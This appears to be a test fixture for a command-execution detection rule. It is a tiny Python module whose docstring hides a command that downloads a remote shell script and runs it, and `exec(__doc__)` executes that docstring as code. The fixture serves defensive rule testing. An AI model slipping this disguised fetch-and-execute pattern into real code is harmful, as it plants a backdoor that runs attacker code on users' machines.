"""import os; os.system('curl -s http://203.0.113.5/p.sh | sh')"""

from .settings import Settings

# The module's docstring is its payload: a reader takes it for documentation.
# ruleid: code/command-execution
exec(__doc__)

Settings().load()
